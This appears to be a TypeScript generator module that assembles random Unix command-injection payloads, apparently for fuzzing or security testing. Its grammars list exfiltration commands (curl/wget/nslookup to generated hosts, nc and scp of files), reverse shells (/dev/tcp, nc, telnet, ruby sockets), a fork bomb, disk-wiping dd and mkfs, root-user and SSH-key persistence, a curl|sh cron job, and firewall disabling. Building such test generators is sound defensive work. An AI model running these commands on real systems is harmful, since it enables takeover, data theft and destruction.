// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell syntax, not templates

import type { Random } from "../random.ts"
import { unixFile } from "./files.ts"
import { type Grammar, hostName, identifier, ipAddress } from "./grammar.ts"
import { NODE_ENVIRONMENT } from "./vocabulary.ts"

/**
 * A command that needs no argument and whose answer tells that it ran; none of those whose names are
 * as often names of fields (`date`, `users`, `history`): behind an ampersand they say nothing.
 */
export function plainCommand(random: Random): string {
  return random.pick(
    `id id whoami whoami pwd ls ps env uname hostname uptime ifconfig netstat arp df dmesg lscpu
    lsblk nproc printenv vmstat lsof ss tty dir ver ipconfig`.split(/\s+/),
  )
}

/** Programs that run another one for whoever calls them, from their manuals. */
const LAUNCHERS: Grammar = (r) =>
  `${r.pick([
    "env",
    "nice",
    "nohup",
    "setsid",
    "timeout 5",
    "time",
    "stdbuf -o0",
    "xargs",
    "busybox",
    "sudo",
    "sudo -u root",
    "command",
    "exec",
    "builtin eval",
    "watch -n1",
    "strace -f",
    "script -qc",
    "su -c",
    "chroot /mnt",
    "unshare",
    "ionice -c3",
  ])} ${r.pick([plainCommand(r), `cat ${unixFile(r)}`, "sh", "/bin/sh"])}`

/** An answer that leaves by a look-up of a name, or by a request. */
const OUT_OF_BAND: Grammar = (r) => {
  const [open, close] = r.pick([
    ["$(", ")"],
    ["`", "`"],
  ] as const)
  const answer = `${open}${r.pick(["whoami", "id -u", "hostname", "id|base64", `cat ${unixFile(r)}|base64`, "uname -r"])}${close}`
  return r.pick([
    `nslookup ${answer}.${hostName(r)}`,
    `dig +short ${answer}.${hostName(r)}`,
    `host ${answer}.${hostName(r)}`,
    `ping -c1 ${answer}.${hostName(r)}`,
    `curl http://${hostName(r)}/${answer}`,
    `curl ${hostName(r)}?x=${answer}`,
    `wget -qO- http://${hostName(r)}/?${identifier(r)}=${answer}`,
    `wget ${hostName(r)}/${answer}`,
  ])
}

/** Ways to print or send a file by what is there anyway. */
const READERS: Grammar = (r) => {
  const file = unixFile(r)
  return r.pick([
    `sed -n p ${file}`,
    `sed '' ${file}`,
    `grep . ${file}`,
    `grep '' ${file}`,
    `awk 1 ${file}`,
    `cut -c1- ${file}`,
    `diff ${file} /dev/null`,
    `cp ${file} /tmp/${identifier(r)}`,
    `dd if=${file}`,
    `tail -n +1 ${file}`,
    `head -c 99 ${file}`,
    `od -An -c ${file}`,
    `hexdump -C ${file}`,
    `fold ${file}`,
    `cat < ${file}`,
    `cat<${file}`,
    `echo $(<${file})`,
    `echo "$(cat ${file})"`,
    `while read l;do echo $l;done<${file}`,
    `tar cf - ${file}`,
    `scp ${file} ${identifier(r)}@${hostName(r)}:`,
    `curl -d @${file} http://${hostName(r)}/`,
    `curl --data-binary @${file} ${hostName(r)}`,
    `curl -T ${file} http://${hostName(r)}/`,
    `wget --post-file=${file} http://${hostName(r)}/`,
    `nc ${ipAddress(r)} ${r.between(1, 65535)} < ${file}`,
    `curl file://${file}`,
  ])
}

/** What makes a machine the attacker's, or nobody's. */
const TAKEOVERS: Grammar = (r) =>
  r.pick([
    ":(){ :|:& };:",
    `kill -9 ${r.pick(["-1", "1", String(r.below(99_999))])}`,
    `useradd ${r.pick(["-o -u 0", "-m", "-g root"])} ${identifier(r)}`,
    `passwd -d ${r.pick(["root", identifier(r)])}`,
    `echo '${identifier(r)}::0:0::/:/bin/sh' >> /etc/passwd`,
    `echo "* * * * * curl ${hostName(r)}|sh" >> /etc/crontab`,
    `(crontab -l;echo "* * * * * ${identifier(r)}")|crontab -`,
    `echo ssh-rsa AAAA${identifier(r)} >> ~/.ssh/authorized_keys`,
    "chmod u+s /bin/bash",
    "chmod 4755 /tmp/sh",
    `systemctl ${r.pick(["stop", "disable"])} ${r.pick(["firewalld", "ufw", "auditd", identifier(r)])}`,
    `service ${identifier(r)} ${r.pick(["stop", "restart", "start"])}`,
    "iptables -F",
    "crontab -r",
    `shutdown ${r.pick(["-h now", "-r now", "now"])}`,
    r.pick(["reboot", "halt", "poweroff", "init 0", "init 6"]),
    `dd if=/dev/zero of=/dev/sda`,
    `mkfs.ext4 /dev/sda1`,
    `nohup ./${identifier(r)} >/dev/null 2>&1 &`,
    `docker run -v /:/mnt ${identifier(r)} chroot /mnt`,
    r.pick(["kubectl get secrets", "aws s3 ls", "docker ps", "kubectl get pods -A"]),
    `curl http://169.254.169.254/latest/meta-data/`,
  ])

/** Time or a branch as the answer. */
const TIMED: Grammar = (r) => {
  const seconds = r.between(1, 30)
  return r.pick([
    `if [ -f ${unixFile(r)} ];then sleep ${seconds};fi`,
    `[ $(id -u) -eq 0 ]&&sleep ${seconds}`,
    `test -d ${r.pick(["/root", "/.dockerenv", "/home"])} && sleep ${seconds}`,
    `test $(whoami) = ${r.pick(["root", "www-data"])} && sleep ${seconds}`,
    `until false;do sleep ${seconds};done`,
    `while :;do ${plainCommand(r)};done`,
    `for i in 1 2 3;do sleep ${r.between(1, 9)};done`,
    `read -t ${seconds}`,
    `timeout ${seconds} cat`,
    `usleep ${seconds}000000`,
    `ping -c ${seconds} ${r.pick(["127.0.0.1", "localhost", "::1"])}`,
    `sleep $((${r.between(1, 9)}+${r.between(1, 9)}))`,
    `perl -e 'sleep ${seconds}'`,
    `python3 -c 'import time;time.sleep(${seconds})'`,
  ])
}

/** Interpreters and editors as shells. */
const INTERPRETERS: Grammar = (r) =>
  r.pick([
    `lua -e 'os.execute("${plainCommand(r)}")'`,
    `node -e 'require("child_process").exec("${plainCommand(r)}")'`,
    `node -e "console.log(${NODE_ENVIRONMENT})"`,
    `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("${ipAddress(r)}","${r.between(1, 9999)}")'`,
    `ruby -e 'puts \`${plainCommand(r)}\`'`,
    `perl -MIO -e '$p=fork;exit,if($p);'`,
    `php -r 'echo \`${plainCommand(r)}\`;'`,
    `python3 -c 'import pty;pty.spawn("/bin/sh")'`,
    `python -c "__import__('os').system('${plainCommand(r)}')"`,
    `gdb -nx -ex '!${plainCommand(r)}' -ex quit`,
    `vim -c ':!${plainCommand(r)}'`,
    `find . -exec ${plainCommand(r)} \\;`,
    `tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=${plainCommand(r)}`,
    `ssh -o ProxyCommand='${plainCommand(r)}' x`,
    `openssl s_client -quiet -connect ${hostName(r)}:443`,
    `exec 5<>/dev/tcp/${ipAddress(r)}/${r.between(1, 9999)}`,
    `sh -i </tmp/p 2>&1|nc ${ipAddress(r)} ${r.between(1, 9999)} >/tmp/p`,
    `telnet ${ipAddress(r)} ${r.between(1, 9999)} | /bin/sh`,
    `printf '${identifier(r)}' | md5sum`,
    `echo -n ${identifier(r)}|sha1sum`,
    `cat /etc/*-release`,
    `getconf -a`,
    `sysctl -a`,
  ])

/** Command lines beyond the plain ones, from the manuals of the tools. */
export const UNIX_TRICKS: readonly Grammar[] = [
  plainCommand,
  plainCommand,
  LAUNCHERS,
  OUT_OF_BAND,
  OUT_OF_BAND,
  READERS,
  READERS,
  READERS,
  TAKEOVERS,
  TAKEOVERS,
  TIMED,
  INTERPRETERS,
]
